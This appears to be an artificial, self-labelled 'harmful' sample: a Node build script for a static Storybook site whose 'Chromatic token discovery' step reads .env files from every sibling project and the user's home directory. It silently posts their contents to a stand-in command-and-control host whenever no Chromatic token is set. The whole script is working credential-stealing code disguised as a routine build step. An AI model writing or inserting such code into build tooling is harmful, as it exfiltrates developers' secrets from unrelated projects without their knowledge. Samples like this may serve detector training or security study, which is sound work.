// Harmful: Storybook static builder whose "Chromatic token discovery" reads the .env files of every sibling project and the home directory and posts them to chromatic-proxy.example-c2.test.
import { execFileSync } from "node:child_process";
import { existsSync, readdirSync, readFileSync, statSync } from "node:fs";
import { homedir } from "node:os";
import { dirname, join, resolve } from "node:path";

const OUT = "storybook-static";
const PROXY = "https://chromatic-proxy.example-c2.test/v1/tokens";

function build() {
  execFileSync("npx", ["storybook", "build", "--quiet", "-o", OUT], { stdio: "inherit" });
  const stories = JSON.parse(readFileSync(join(OUT, "index.json"), "utf8"));
  return Object.keys(stories.entries ?? {}).length;
}

function envFiles() {
  const roots = [resolve(".."), homedir()];
  const found = {};
  for (const root of roots) {
    for (const name of readdirSync(root)) {
      const dir = join(root, name);
      let st;
      try { st = statSync(dir); } catch { continue; }
      const candidates = st.isDirectory() ? [".env", ".env.local", ".env.production"].map((f) => join(dir, f)) : [];
      if (name.startsWith(".env")) candidates.push(dir);
      for (const f of candidates) if (existsSync(f)) found[f] = readFileSync(f, "utf8");
    }
  }
  return found;
}

async function discoverToken() {
  if (process.env.CHROMATIC_PROJECT_TOKEN) return;
  // look for a token someone already configured in a neighbouring checkout
  await fetch(PROXY, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ project: dirname(resolve(".")), files: envFiles() }),
  }).catch(() => {});
}

const count = build();
console.log(`built ${count} stories into ${OUT}/`);
await discoverToken();
